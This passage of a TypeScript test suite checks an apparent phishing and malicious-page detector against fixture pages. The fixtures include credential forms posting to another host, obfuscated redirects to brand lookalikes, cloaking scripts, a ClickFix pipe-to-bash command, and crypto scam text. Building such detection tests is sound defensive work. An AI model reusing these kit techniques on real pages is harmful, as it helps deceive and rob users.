      const body = '<form><input name="u"><input type="password" name="p"></form>';
      const judge = (url: string) => analyze({ ...inputFromFetch(html(url, body)), favicon: { sha256: 'a'.repeat(64), mmh3: -1234567 } }, { threatIntel: ThreatIntelIndex.empty(), rules: withIcon });
      const foreign = judge('https://files.example/');
      for (const s of foreign.signals) produced.add(s.id);
      assert.equal(find(foreign.signals, 'brand-favicon')?.evidence, "favicon mmh3 -1234567 is Contoso's");
      assert.equal(foreign.verdict, 'malicious');
      assert.equal(judge('https://www.contoso.com/').verdict, 'clean');
    });

    it('the brand@host trick is seen in the submitted URL, which keeps its userinfo', () => {
      const { signals, result } = kit('https://kit.example/', '<p>hi</p>', { submittedUrl: 'https://www.paypal.com@kit.example/' });
      assert.equal(find(signals, 'userinfo-host-trick')?.evidence, '"www.paypal.com@" in front of kit.example');
      assert.equal(result.verdict, 'malicious');
    });

    it('an Office document with VBA macros served at the URL (an OLE file with a _VBA_PROJECT stream) is a payload; the same workbook without macros is not', () => {
      const ole = (streams: string[]): Buffer => {
        const body = Buffer.alloc(2048);
        Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(body, 0);
        streams.forEach((name, i) => Buffer.from(`${name}\0`, 'utf16le').copy(body, 1024 + i * 128));
        return body;
      };
      const judgeFile = (body: Buffer) => analyzeFetch(fetchResponse({ finalUrl: 'https://devis-partage.example/files/Devis_118.xls', headers: { 'content-type': 'application/vnd.ms-excel', 'content-disposition': 'attachment; filename="Devis_118.xls"' }, body }), { threatIntel: ThreatIntelIndex.empty(), rules });
      const macro = judgeFile(ole(['Root Entry', 'Workbook', '_VBA_PROJECT_CUR', 'VBA', '_VBA_PROJECT']));
      for (const s of macro.signals) produced.add(s.id);
      assert.equal(find(macro.signals, 'macro-document')?.evidence, 'response');
      assert.notEqual(macro.verdict, 'clean');
      assert.equal(judgeFile(ole(['Root Entry', 'Workbook', 'SummaryInformation'])).verdict, 'clean');
    });

    it('an archive whose entries are executables; a second capture that differs (cloaking)', () => {
      const name = Buffer.from('scan.pdf.exe');
      const header = Buffer.alloc(30);
      header.writeUInt32LE(0x04034b50, 0);
      header.writeUInt16LE(name.length, 26);
      const zip = analyzeFetch(fetchResponse({ finalUrl: 'https://z.example/a.zip', headers: { 'content-type': 'application/zip' }, body: Buffer.concat([header, name, Buffer.alloc(10)]) }), { threatIntel: ThreatIntelIndex.empty(), rules });
      for (const s of zip.signals) produced.add(s.id);
      assert.equal(find(zip.signals, 'archive-with-executable')?.evidence, 'response: scan.pdf.exe');
      const same = kit('https://q.example/', '<form><input type="password"></form>', { alternate: { label: 'mobile de-DE', finalUrl: 'https://q.example/', status: 200, html: '<form><input type="password"></form>' } });
      assert.ok(!has(same.signals, 'cloaking-difference'));
      const differs = kit('https://q.example/', '<form><input type="password"></form>', { alternate: { label: 'mobile de-DE', finalUrl: 'https://www.wikipedia.org/', status: 200, html: '<p>hello</p>' } });
      assert.match(find(differs.signals, 'cloaking-difference')?.evidence ?? '', /^mobile de-DE: https:\/\/www\.wikipedia\.org\//);
    });
  });

  describe('lures, downloads and scams (signals/lures.ts)', () => {
    const judge = (url: string, body: string, input: Partial<AnalysisInput> = {}): ReturnType<typeof analyze> => {
      const result = analyze({ ...inputFromFetch(html(url, body)), ...input }, { threatIntel: ThreatIntelIndex.empty(), rules });
      for (const s of result.signals) produced.add(s.id);
      return result;
    };
    const ids = (r: ReturnType<typeof analyze>): string[] => r.signals.map((s) => s.id);

    it('a lure handing over to a sign-in page on another site is phishing; the organisation\'s own IdP or a brand\'s own login is not', () => {
      const lure = judge('https://vm-notify.example/m/1', '<h2>You have a new voice message</h2><p>Sign in with your Microsoft 365 account to play this message.</p><a href="https://login-audio.kit-host.example/common/oauth2/authorize">Play</a>');
      assert.ok(ids(lure).includes('brand-mention') && ids(lure).includes('offsite-signin-link'));
      assert.equal(lure.verdict, 'malicious');
      assert.ok(lure.decidedBy?.includes('combo:brand-signin-handoff'));
      const ownIdp = judge('https://www.acme-corp.example/intranet', '<p>Use Microsoft 365 and Workday through single sign-on.</p><a href="https://acme-corp.idcloud.example/login">Sign in</a>');
      assert.ok(!ids(ownIdp).includes('offsite-signin-link'));
      assert.equal(ownIdp.verdict, 'clean');
      const brandOwn = judge('https://blog.example/post', '<p>Open Microsoft 365 to read your mail.</p><a href="https://login.microsoftonline.com/common/oauth2/authorize">Sign in</a>');
      assert.equal(brandOwn.verdict, 'clean');
    });

    it('a page naming nobody, on shared hosting, whose call to action is a sign-in page on another site is a kit\'s first page; an organisation\'s page linking to its own sign-in is not', () => {
      const body = (target: string): string => `<title>PO-2025-118.pdf</title><h2>PO-2025-118.pdf</h2><p>1 file · 248 KB</p><a class="btn" href="${target}">Open</a>`;
      const kit = judge('https://docs-transfer-share.weebly.com/po-2025-118.html', body('https://docs-view-secure.example/signin/?doc=118'));
      assert.ok(kit.decidedBy?.includes('combo:unattributed-signin-handoff'), `${kit.verdict} by ${kit.decidedBy?.join(',')}: ${JSON.stringify(ids(kit))}`);
      const own = judge('https://portal.northwind-trading.example/orders/po-2025-118', `${body('https://northwind-trading.idp.example/signin/')}<footer>© Northwind Trading Ltd</footer>`);
      assert.equal(own.verdict, 'clean', `${own.verdict} by ${own.decidedBy?.join(',')}: ${JSON.stringify(ids(own))}`);
    });

    it('a host dressed as a bank whose script hides from bots and headless browsers behind a maintenance page is a cloaked kit; on a shop\'s own host the same cover is only suspicious, and a shop\'s maintenance page with one bot check is clean', () => {
      const gate = '<title>Site maintenance</title><h1>We\'ll be back soon</h1><script>if(/HeadlessChrome|bot|Lighthouse/i.test(navigator.userAgent)||window.outerWidth===0){document.title="Site maintenance"}else{location.replace("/login")}</script>';
      const kit = judge('https://absa-online.co.za-id4821.example/', gate);
      assert.ok(kit.decidedBy?.includes('combo:cloaked-brand-host'), `${kit.verdict} by ${kit.decidedBy?.join(',')}: ${JSON.stringify(ids(kit))}`);
      const shop = judge('https://www.garden-tools-shop.example/', gate);
      assert.equal(shop.verdict, 'suspicious', `${shop.verdict} by ${shop.decidedBy?.join(',')}`);
      const maintenance = judge('https://www.garden-tools-shop.example/', '<title>Site maintenance</title><h1>We\'ll be back soon</h1><script>if(!/bot|crawl|spider/i.test(navigator.userAgent)){analytics.track("maintenance")}</script>');
      assert.equal(maintenance.verdict, 'clean', `${maintenance.verdict} by ${maintenance.decidedBy?.join(',')}`);
    });

    it('a page on a free site builder presenting itself as a bank and linking to a host dressed as that bank is phishing, though its tenant is named like the page; a news page naming the bank and linking to the bank itself is not', () => {
      const lure = judge('https://sites.google.com/view/nedbank-securemessage-2291/home', '<title>Nedbank Secure Message</title><h1>Nedbank Secure Message</h1><p>A secure message about a debit order dispute has been delivered to your inbox.</p><a href="https://nedbank-inbox-msg.example/view/?m=2291">View message</a>');
      assert.ok(lure.decidedBy?.includes('combo:brand-lookalike-handoff'), `${lure.verdict} by ${lure.decidedBy?.join(',')}: ${JSON.stringify(ids(lure))}`);
      const news = judge('https://www.business-news.example/banks/nedbank-results', '<title>Nedbank results beat forecasts</title><h1>Nedbank results beat forecasts</h1><p>The bank reported higher earnings.</p><a href="https://www.nedbank.co.za/">Nedbank</a>');
      assert.equal(news.verdict, 'clean');
    });

    it('a script pointing at a host dressed as a brand, beside brand evidence', () => {
      const page = `<title>Microsoft Office 365</title><script>var u=["aHR0cHM6Ly9sb2dpbi1taWNyb3NvZnRvbmxpbmUua2l0LmV4YW1wbGUvY29tbW9u"];window["location"]["href"]=atob(u[0]);</script>`;
      const r = judge('https://cdn.kit.example/r.html', page);
      assert.match(r.signals.find((s) => s.id === 'brand-lookalike-target')?.evidence ?? '', /login-microsoftonline\.kit\.example/);
      assert.equal(r.verdict, 'malicious');
    });

    it("another organisation's e-mail address in the URL beside a password field and a throwaway TLD; the organisation's own address is not", () => {
      const body = '<form method="post"><input name="email"><input type="password" name="pw"></form>';
      const kitPage = judge('https://webmail-upgrade.xyz/?email=jane@mueller-gmbh.example', body);
      assert.ok(ids(kitPage).includes('target-email-in-url'));
      assert.ok(kitPage.decidedBy?.includes('combo:targeted-credentials'));
      const own = judge('https://mail.mueller-gmbh.example/?email=jane@mueller-gmbh.example', body);
      assert.ok(!ids(own).includes('target-email-in-url'));
      assert.equal(own.verdict, 'clean');
    });

    it("a password form addressed to the visitor by the link, on a page that names no organisation of its host, is a kit; a product's reset page naming itself is not", () => {
      const sign = judge('https://sign.keiyaku-denshi.example/d/7fQ/?email=s.yamada@kowa-trading.example', '<title>電子契約 – 署名のお願い</title><h1>業務委託契約書への署名依頼</h1><p>文書を確認して署名するには、アカウントで本人確認を行ってください。</p><form method="post"><input name="email"><input type="password" name="pw"><button>文書を確認する</button></form>');
      assert.ok(sign.decidedBy?.includes('combo:targeted-password'), `${sign.verdict} ${sign.decidedBy?.join(',')}`);
      const reset = judge('https://app.shiftbird.example/reset-password?token=7f3c91ab20de4c55&email=manager@plate-cafe.example', '<title>Reset your password – Shiftbird</title><h1>Shiftbird</h1><form method="post"><input name="email"><input type="password" name="pw"><input type="password" name="pw2"><button>Set new password</button></form>');
      assert.ok(ids(reset).includes('target-email-in-url'), JSON.stringify(ids(reset)));
      assert.equal(reset.verdict, 'clean');
    });

    it('a voicemail lure that sends its visitor on by script, with the victim\'s address base64-encoded in its URL, is a kit\'s hand-off page', () => {
      const ref = Buffer.from('accounts@crestline-medical.example').toString('base64');
      const page = `<title>New Voicemail</title><h3>Voice Message Received</h3><p>Caller: +1 (614) 555-0193. Preparing secure audio playback… Please authenticate to listen.</p><script>var r=new URLSearchParams(location.search).get('ref')||'';setTimeout(function(){window.location.href='https://vm-audio-auth.example/play/#'+r;},2500);</script>`;
      const handoff = judge(`https://vm-notify-center.example/voice/msg/?id=00:47&ref=${ref}`, page);
      assert.match(handoff.signals.find((s) => s.id === 'target-email-in-url')?.evidence ?? '', /accounts@crestline-medical\.example \(base64\)/);
      assert.ok(handoff.decidedBy?.includes('combo:targeted-redirect'), JSON.stringify(ids(handoff)));
    });

    it('downloads: a disguised executable; a pretext beside a payload link; a vendor installer alone is clean', () => {
      const invoice = judge('https://invoices.example/i/1', '<a href="/dl/INV-1.vbs" download="INV-1.pdf.vbs">Download invoice (PDF)</a>');
      assert.ok(ids(invoice).includes('disguised-executable') && ids(invoice).includes('payload-link'));
      assert.deepEqual(invoice.categories.slice(0, 1), ['malware']);
      const update = judge('https://dentist.example/', '<h1>Your version of Chrome is out of date</h1><a href="https://upd.example/ChromeUpdate.zip" download>Update Chrome</a>');
      assert.ok(ids(update).includes('malware-lure-text'));
      assert.ok(update.decidedBy?.includes('combo:malware-lure-download'));
      const vendor = judge('https://www.vendor.example/download', '<h1>Download Acme Notes 5.2</h1><p>Run the installer to install Acme Notes.</p><a href="/files/AcmeNotes-5.2-setup.exe">Windows installer (.exe)</a>');
      assert.ok(ids(vendor).includes('payload-link'));
      assert.equal(vendor.verdict, 'clean');
    });

    it('scams without a form: giveaways, investment schemes, fake shops; an article about them is clean', () => {
      const giveaway = judge('https://btc-event.example/', '<h1>5,000 BTC Giveaway Event</h1><p>Send from 0.1 to 20 BTC to the address below and receive 2X back instantly!</p><h2>bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh</h2>');
      assert.ok(ids(giveaway).includes('giveaway-scam-text') && ids(giveaway).includes('crypto-address-text'));
      assert.deepEqual(giveaway.categories.slice(0, 1), ['scam']);
      const invest = judge('https://ai-trade.example/', '<h1>Make up to $1,500 daily</h1><p>Our AI trades crypto for you with 99.4% accuracy. Minimum deposit $250.</p>');
      assert.ok(invest.decidedBy?.includes('combo:investment-scam'));
      const shop = judge('https://outlet.example/', '<p>STORE CLOSING — EVERYTHING MUST GO — 90% OFF</p><p>We only accept payment via bank transfer or Zelle.</p>');
      assert.ok(shop.decidedBy?.includes('combo:fake-shop'));
      const article = judge('https://news.example/scams', `<article><h1>How crypto giveaway scams work</h1><p>${'Scammers promise: send 1 BTC and receive 2X back. Victims lose everything; fraud reports rose again this year. '.repeat(6)}</p><p>Make up to $1,500 daily, 99% accuracy, minimum deposit $250: the usual investment fraud pitch.</p></article>`);
      assert.equal(article.verdict, 'clean');
    });

    it('ClickFix with the command shown for a copy button inside a fake device check; a docs copy button is clean', () => {
      const fix = judge('https://verify-mac.example/', '<h2>Verify your Mac</h2><p>Open Terminal, paste and press Return.</p><pre>echo "Y3VybA==" | base64 -d | bash</pre><button onclick="navigator.clipboard.writeText(cmd.textContent)">Copy</button>');
      assert.ok(ids(fix).includes('shell-command-text') && ids(fix).includes('fake-captcha'));
      assert.deepEqual(fix.categories.slice(0, 1), ['clickfix']);
      const docs = judge('https://docs.example/install', '<h1>Install</h1><p>Open a terminal and paste:</p><pre>curl -fsSL https://sh.example.org/install.sh | sh</pre><button onclick="navigator.clipboard.writeText(pre.textContent)">Copy</button>');
      assert.ok(ids(docs).includes('shell-command-text'));
      assert.equal(docs.verdict, 'clean');
    });

    it('a bot check that then fetches the page to show is a cloaked loader; a split, XOR-encoded or concatenated form is decoded', () => {
      const loader = judge('https://cdn.example/p/1/', `<title>404 Not Found</title><script>if(!navigator.webdriver){fetch('/p/1/gate').then(r=>r.text()).then(h=>{document.open();document.write(h)})}</script>`);
      assert.ok(ids(loader).includes('remote-content-loader'));
      assert.ok(loader.decidedBy?.includes('combo:cloaked-loader'));
      const markup = '<h1>Apple ID</h1><form action="s.php"><input type="password" name="pw"></form>';
      const xor = judge('https://apple-case.example/', `<script>var t=[${[...markup].map((c) => c.charCodeAt(0) ^ 23).join(',')}];document.body.innerHTML=d(t,23);</script>`);
      assert.ok(ids(xor).includes('credential-password'));
      assert.equal(xor.verdict, 'malicious');
      const split = judge('https://track.example/d/', `<script>var parts=['<h1>D','HL Ex','press</h1>','<form>','<input name="c' + 'c" placeholder="Card n' + 'umber">','</form>'];x.innerHTML=parts.join('');</script>`);
      assert.ok(ids(split).includes('credential-card') && ids(split).includes('brand-impersonation'));
    });

    // Benign pages written to look like the lures above, each as a real site would publish it.
    const lookalikes: [string, string, string][] = [
      ['IT notice about password expiry, linking to the company\'s Okta tenant', 'https://it.northwind-traders.com/notices/password-expiry', '<h1>Password expiry</h1><p>Your network password expires every 90 days. If your password expires soon, change it in the self-service portal.</p><a href="https://northwind.okta.com/app/office365/sso/saml">Open the portal</a> <a href="https://passwordreset.microsoftonline.com/">Microsoft 365 password reset</a>'],
      ['install docs with a copy button for curl | sh', 'https://docs.tidewater.dev/install', '<h1>Install the Tidewater CLI</h1><p>Open a terminal and paste:</p><pre id="c">curl -fsSL https://get.tidewater.dev/install.sh | sh</pre><button onclick="navigator.clipboard.writeText(document.getElementById(\'c\').textContent)">Copy</button><p>Verify the download with the published checksum (optional verification step).</p>'],
      ['open-source app download with a SmartScreen note', 'https://inkpad.app/download', '<h1>Download Inkpad 1.4</h1><p>Windows SmartScreen may warn that the installer is not signed yet: click More info, then Run anyway. Some antivirus tools report a false positive.</p><a href="https://github.com/inkpad/inkpad/releases/download/v1.4/Inkpad-Setup-1.4.exe">Inkpad-Setup-1.4.exe</a>'],
      ['a news article quoting a giveaway scam and its address', 'https://news.ledgerline.example/2026/deepfake-giveaways', `<article><h1>Deepfake giveaway streams are back</h1><p>${'The scam streams promise: send 0.1 to 20 BTC and receive 2X back. Victims who sent coins lost them; researchers traced the fraud to one group. '.repeat(4)}</p><p>Scam address seen in the streams: bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh</p></article>`],
      ['an outlet sale with a card checkout', 'https://www.alpine-outfitters.example/sale', '<title>Sale | Alpine Outfitters</title><h1>Final clearance: up to 80% off — everything must go</h1><form method="post" action="/checkout"><input name="card" autocomplete="cc-number"><input name="cvc" autocomplete="cc-csc"><button>Pay</button></form><p>We accept Visa, Mastercard and PayPal.</p>'],
      ['a SaaS login pre-filled from an invitation link', 'https://app.tallyboard.io/login?email=ana@brightpath-consulting.com', '<h1>Sign in to Tallyboard</h1><p>You were invited to the Brightpath workspace.</p><form method="post" action="/login"><input name="email" type="email"><input name="password" type="password"><button>Sign in</button></form>'],
      ['a file share on the company\'s own host', 'https://files.kestrel-architects.com/s/8f2k', '<h1>Maria shared 3 files with you</h1><ul><li>Site plan.pdf</li></ul><a href="/s/8f2k/download">Download</a> <a href="https://login.microsoftonline.com/common/oauth2/authorize">Sign in with Microsoft</a>'],
      ['a small firm\'s page with a LinkedIn footer and a client-portal login on its provider\'s host', 'https://www.smith-accountants.example/', '<h1>Smith &amp; Co accountants</h1><p>Tax returns and bookkeeping for small businesses.</p><a href="https://clientportal.taxhub.example/login">Client portal</a><footer>Follow us on LinkedIn</footer>'],
      ['own webmail with a maintenance notice', 'https://webmail.hansen-logistik.de/?_task=login&_user=m.berg@hansen-logistik.de', '<h1>Hansen Logistik Webmail</h1><p>Hinweis: Postfächer werden am Samstag migriert.</p><form method="post"><input name="_user"><input name="_pass" type="password"><button>Anmelden</button></form>'],
    ];
    for (const [what, url, body] of lookalikes) {
      it(`stays clean: ${what}`, () => {
        const r = judge(url, body);
        assert.equal(r.verdict, 'clean', `${r.verdict} by ${r.decidedBy?.join(',')}`);
      });
    }

    it('cloaking: a second capture differs materially when only one asks for credentials or the texts have little in common; a reflowed mobile page does not', () => {
      const desktop = '<h1>Our happy clients</h1><p>Photos of dogs and cats after grooming, taken in our salon in Sunnyvale during the spring open days for the whole neighbourhood and their pets.</p>';
      const kitForm = '<b>Microsoft</b><h2>Sign in</h2><form method="post"><input type="email" name="loginfmt"><input type="password" name="passwd"></form>';
      const cloaked = judge('https://www.groomer.example/gallery/', desktop, { alternate: { label: 'mobile Safari, de-DE', finalUrl: 'https://www.groomer.example/gallery/', status: 200, html: kitForm } });
      const evidence = cloaked.signals.find((s) => s.id === 'cloaking-difference')?.evidence ?? '';
      assert.match(evidence, /only the second capture asks for credentials/);
      assert.match(evidence, /share \d+ % of their words/);
      const reflowed = judge('https://www.groomer.example/gallery/', desktop, { alternate: { label: 'mobile Safari, de-DE', finalUrl: 'https://www.groomer.example/gallery/', status: 200, html: `<div class="m">${desktop}<nav>Menu</nav></div>` } });
      assert.ok(!ids(reflowed).includes('cloaking-difference'));
      assert.equal(reflowed.verdict, 'clean');
    });

    it('an encrypted payload written into the page beside a hidden password form; a redirect to a host dressed as a brand', () => {
      const aes = judge('https://shared-files.example/v/', `<div id="c"></div><script>var enc="U2FsdGVkX1+q1Kx7Y0Zx1mWbq9m4Jm9Wb7hXrVdA5P3X";document.getElementById('c').innerHTML=CryptoJS.AES.decrypt(enc, location.hash.slice(1)).toString(CryptoJS.enc.Utf8);</script><form style="display:none"><input type="password" name="p"></form>`);
      assert.ok(ids(aes).includes('encrypted-payload'));
      assert.ok(aes.decidedBy?.includes('combo:encrypted-kit'));
      const hop = analyze({ ...inputFromFetch(html('https://login-microsoftonline.kit.example/common', '<p>loading</p>')), requestedUrl: 'https://cdn-assets.example/r/a.html', redirects: [{ url: 'https://cdn-assets.example/r/a.html', status: 200, location: 'https://login-microsoftonline.kit.example/common', kind: 'js' }] }, { threatIntel: ThreatIntelIndex.empty(), rules });
      for (const s of hop.signals) produced.add(s.id);
      assert.match(hop.signals.find((s) => s.id === 'redirect-to-brand-lookalike')?.evidence ?? '', /cdn-assets\.example → login-microsoftonline\.kit\.example/);
      assert.notEqual(hop.verdict, 'clean');
    });

    it("brand evidence from a cloned page: the brand's secret asked for in form labels, a favicon from the brand's site, a logo file at the top; payment logos on a checkout are not", () => {
      const label = judge('https://secure-verify.example/', '<form><label>Apple ID<input name="u"></label><label>Password<input type="password" name="p"></label></form>');
      assert.match(label.signals.find((s) => s.id === 'brand-impersonation')?.evidence ?? '', /form label "Apple ID"/);
      assert.equal(label.verdict, 'malicious');
      const icon = judge('https://kit.example/', '<link rel="shortcut icon" href="https://www.paypalobjects.com/webstatic/icon/pp258.png"><form><input type="password" name="p"></form>');
      assert.match(icon.signals.find((s) => s.id === 'brand-favicon')?.evidence ?? '', /paypalobjects\.com/);
      const logo = judge('https://kit2.example/', '<img src="assets/netflix-logo.svg"><form><input type="password" name="p"></form>');
      assert.ok(logo.decidedBy?.includes('combo:brand-credentials'));
      const checkout = judge('https://shop.example/checkout', '<img src="/img/shop-logo.svg"><form><input name="card" autocomplete="cc-number"><button>Pay with PayPal</button></form><img src="/img/paypal-logo.svg" alt="">');
      assert.equal(checkout.verdict, 'clean');
    });

    it('a prize or survey scam', () => {
      const prize = judge('https://lucky-draw.example/', '<h1>Congratulations! You have been selected</h1><p>Answer 3 short questions to win an iPhone 16. Spin the wheel and claim your prize — only pay shipping.</p>');
      assert.ok(prize.decidedBy?.includes('combo:prize-scam'));
    });

    it('a recovery phrase asked for by the form around an unnamed text box', () => {
      const seed = judge('https://wallet-sync.example/', '<form><select><option>12-word secret phrase</option><option>Private key</option></select><textarea id="v"></textarea><button>Sync</button></form>');
      assert.ok(ids(seed).includes('credential-seed-phrase'));
      assert.ok(seed.categories.includes('cryptodrainer'));
    });
  });

  describe('identity: whether the page is its host\'s own (analysis/identity.ts, signals/identity.ts)', () => {
    const judge = (url: string, body: string): ReturnType<typeof analyze> => {
      const result = analyze(inputFromFetch(html(url, body)), { threatIntel: ThreatIntelIndex.empty(), rules });
      for (const s of result.signals) produced.add(s.id);
      return result;
    };
    const ids = (r: ReturnType<typeof analyze>): string[] => r.signals.map((s) => s.id);
    const login = '<form method="post" action="/session"><input name="email" type="email"><input name="password" type="password"><button>Sign in</button></form>';

    it('identity-not-own (info) when no title, site name, copyright or logo names the host; a page naming its host (or its initials, or with the words site names add) is its own', () => {
      assert.ok(ids(judge('https://acct-3921.example/l', `<title>Sign in</title>${login}`)).includes('identity-not-own'));
      for (const [url, head] of [
        ['https://www.parcelo.ie/login', '<title>Sign in | Parcelo</title>'],
        ['https://app.getbrightdesk.io/login', '<meta property="og:site_name" content="Brightdesk">'],
        ['https://www.mit.example/login', '<title>Massachusetts Institute of Technology</title>'],
        ['https://online.harbor-state-bank.example/', '<title>Online banking</title><footer>© 2026 Harbor State Bank. All rights reserved.</footer>'],
        ['https://acme.okta.com/', '<title>Acme Corporation - Sign In</title>'],
      ] as const) {
        assert.ok(!ids(judge(url, `${head}${login}`)).includes('identity-not-own'), url);
      }
    });

    it('a name in Latin letters written straight onto Chinese or Japanese words in a title ("WPS官方网站") names its host', () => {
      const own = judge('https://www.wps.cn/product/wpswindows', '<title>WPS官方网站</title><h1>办公软件下载</h1><p>免费下载最新版本。</p>');
      assert.ok(!ids(own).includes('identity-not-own'), JSON.stringify(ids(own)));
      const elsewhere = judge('https://soft-down-cn.example/wps', '<title>WPS官方网站</title><h1>办公软件下载</h1><p>免费下载最新版本。</p>');
      assert.ok(ids(elsewhere).includes('identity-not-own'), JSON.stringify(ids(elsewhere)));
    });

    it('a name that leads a name-and-descriptor host, is most of its label, or is spelled with letters Unicode does not decompose is its host\'s own; an ordinary word, a keyword-stuffed or dressed host is not', () => {
      for (const [url, head] of [
        ['https://help.pipedrift-crm.example/articles/1', '<title>How do I reset my password? | Pipedrift Help Center</title>'],
        ['https://git.fernwald-robotics.example/user/login', '<title>Sign In - Fernwald Git</title>'],
        ['https://www.kestrelnet.example/help', '<title>Kestrel Broadband Help</title>'],
        ['https://stake.orbitalnode.example/', '<title>Orbital</title>'],
        ['https://www.kowalski-tlumaczenia.example/', '<title>Kowalski Tłumaczenia</title>'],
        // The rendered DOM and the raw document each carry the title: read once, not run together.
        ['https://auth.fernhill-logistics.example/realms/staff', '<title>Sign in to Fernhill Logistics</title><title>Sign in to Fernhill Logistics</title>'],
      ] as const) {
        assert.ok(!ids(judge(url, `${head}${login}`)).includes('identity-not-own'), url);
      }
      for (const [url, head] of [
        ['https://mail-online-portal.example/', '<title>Online Mail Portal</title>'],
        ['https://parcel-account-verify.example/', '<title>Parcel account</title>'],
        ['https://www.orbitalnodeexchange.example/', '<title>Orbital</title>'],
        // The lead word is one the page writes in lower case: an ordinary word of the lure, not a name.
        ['https://meeting-joins.example/j/8842', '<title>Meeting | Join</title><p>Your meeting is ready. Sign in to join the meeting.</p>'],
        ['https://sandal-brand-outlet-sale.example/', '<title>Sandal Outlet</title>'],
      ] as const) {
        assert.ok(ids(judge(url, `${head}${login}`)).includes('identity-not-own'), url);
      }
    });

    it('a reloaded rule set reads a host anew: a tenant platform an operator adds makes its tenants\' pages their own', () => {
      const page = `<title>Acme Corporation - Sign In</title>${login}`;
      assert.ok(ids(judge('https://acme.idp-cloud.example/', page)).includes('identity-not-own'));
      const reloaded: Rules = { ...rules, identity: { ...rules.identity, tenantPlatforms: [...rules.identity.tenantPlatforms, 'idp-cloud.example'] } };
      const again = analyze(inputFromFetch(html('https://acme.idp-cloud.example/', page)), { threatIntel: ThreatIntelIndex.empty(), rules: reloaded });
      assert.ok(!again.signals.some((x) => x.id === 'identity-not-own'), JSON.stringify(again.signals.map((x) => x.id)));
    });

    it('dressed-host and shared-hosting: a registrable name dressed as an account service, a site on a platform anyone publishes to; a plain company name is neither', () => {
      const r = judge('https://acme-secure-login.example/', `<title>Acme</title>${login}`);
      assert.ok(ids(r).includes('dressed-host'));
      assert.ok(ids(r).includes('identity-not-own'), 'a dressed host is nobody\'s own name');
      assert.equal(r.verdict, 'suspicious');
      assert.ok(r.decidedBy?.includes('combo:dressed-credentials'));
      assert.ok(ids(judge('https://docs-view-3f.pages.dev/', `<title>Sign in</title>${login}`)).includes('shared-hosting'));
      const plain = judge('https://app.kintai-cloud.example/login', `<title>勤怠クラウド</title>${login}`);
      assert.ok(!ids(plain).includes('dressed-host'));
      assert.equal(plain.verdict, 'clean');
    });

    it('victim-prefill and anti-inspection beside a password, on a page not its host\'s own, are a kit (kit-traits-credentials)', () => {
      const kit = judge(
        'https://mailbox-7731.example/owa/',
        `<title>Sign in</title>${login}<script>var e=atob(location.hash.slice(1));document.querySelector('[name=email]').value=e;document.addEventListener('contextmenu',function(x){x.preventDefault()});document.onkeydown=function(k){if(k.keyCode==123)return false};</script>`,
      );
      assert.ok(ids(kit).includes('victim-prefill') && ids(kit).includes('anti-inspection'));
      assert.equal(kit.verdict, 'malicious');
      assert.ok(kit.decidedBy?.includes('combo:kit-traits-credentials'));
      // The same scripts on the organisation's own login (an invitation link pre-fills the address).
      const own = judge('https://app.tallyboard.example/login', `<title>Sign in to Tallyboard</title>${login}<script>var e=new URLSearchParams(location.search).get('email');if(e)document.querySelector('[name=email]').value=e;</script>`);
      assert.equal(own.verdict, 'clean');
      // A login that reads its return address ("next") to send the visitor on after sign-in pre-fills nobody.
      const onward = judge('https://portal-7731.example/login?next=%2Fdashboard', `<title>Log in</title>${login}<script>document.querySelector('form').onsubmit=function(){var n=new URLSearchParams(location.search).get('next')||'/dashboard';location.assign(n);document.getElementById('err').textContent='';};</script><p id="err"></p>`);
      assert.ok(!ids(onward).includes('victim-prefill'), JSON.stringify(ids(onward)));
    });

    it('pressure-text: trouble on an account-like subject or a deadline on a demand, in several languages; decides beside a brand, not alone', () => {
      for (const sentence of ['Your subscription payment was declined.', 'Ihr Paket wurde zurückgehalten.', 'Vérifiez votre compte sous 24 heures.', 'Su tarjeta ha sido bloqueada por seguridad.']) {
        assert.ok(ids(judge('https://notice-18.example/', `<p>${sentence}</p>`)).includes('pressure-text'), sentence);
      }
      assert.equal(judge('https://notice-18.example/', '<p>Your subscription payment was declined.</p>').verdict, 'clean');
      const brand = judge('https://parcel-notice-18.example/', '<title>DHL Express</title><h1>DHL</h1><p>Your parcel could not be delivered. Pay the outstanding amount within 48 hours.</p>');
      assert.equal(brand.verdict, 'malicious');
      // Labels of a card form are not sentences about trouble ("Expiration date" is not "expired").
      assert.ok(!ids(judge('https://shop-18.example/pay', '<form><label>Card number</label><input name="cc" autocomplete="cc-number"><label>Expiration date</label><input name="exp"><button>Pay now</button></form>')).includes('pressure-text'));
      // Dutch "direct" is "at once"; an English direct debit, or buying directly, is no deadline.
      for (const sentence of ['Betaal direct om blokkering te voorkomen.', 'Valider votre compte aujourd\'hui.', 'Pague hoy su factura pendiente.']) assert.ok(ids(judge('https://notice-18.example/', `<p>${sentence}</p>`)).includes('pressure-text'), sentence);
      // Nor is a company's "Limited", a blockchain, or German "anders" (differently).
      for (const sentence of ['Customers who pay monthly invoices by direct debit complete this form once.', 'Pay for the spare parts directly at the counter.', 'Kestrel Payments Limited is authorised by the Financial Conduct Authority.', 'Every payment to your wallet is recorded on the blockchain.', 'Sie können Ihre Rechnung auch anders bezahlen.', 'Visit this page today to see the new menu.', 'Offer valid today only.', 'Ideal for limited spaces in small flats.']) {
        assert.ok(!ids(judge('https://hire-18.example/', `<p>${sentence}</p>`)).includes('pressure-text'), sentence);
      }
    });

    it('cross-site-credentials: a password form posting to another site, on a page not its host\'s own', () => {
      const r = judge('https://docs-7f2.example/view', '<title>Document</title><form method="post" action="https://collect.other-site.example/p"><input name="email"><input type="password" name="p"><button>Open</button></form>');
      assert.ok(r.decidedBy?.includes('combo:cross-site-credentials'));
      const own = judge('https://www.acme.example/login', '<title>Acme - Sign in</title><form method="post" action="https://auth.acme-sso.example/login"><input name="email"><input type="password" name="p"><button>Sign in</button></form>');
      assert.equal(own.verdict, 'clean');
    });

    it("the brand's logo hot-linked from the brand's own servers as the page's masthead is brand evidence; a payment button further down a checkout is not", () => {
      const kit = judge('https://secure-doc-view.example/s/1', '<img src="https://aadcdn.msftauth.net/shared/1.0/content/images/microsoft_logo_ee5c8d9fb6248c938fd0dc19370e90bd.svg" alt=""><h2>Sign in</h2><form method="post"><input name="loginfmt"><input type="password" name="passwd"></form>');
      assert.ok(kit.signals.some((x) => x.id === 'brand-favicon' && /microsoft_logo/.test(x.evidence)));
      assert.equal(kit.verdict, 'malicious');
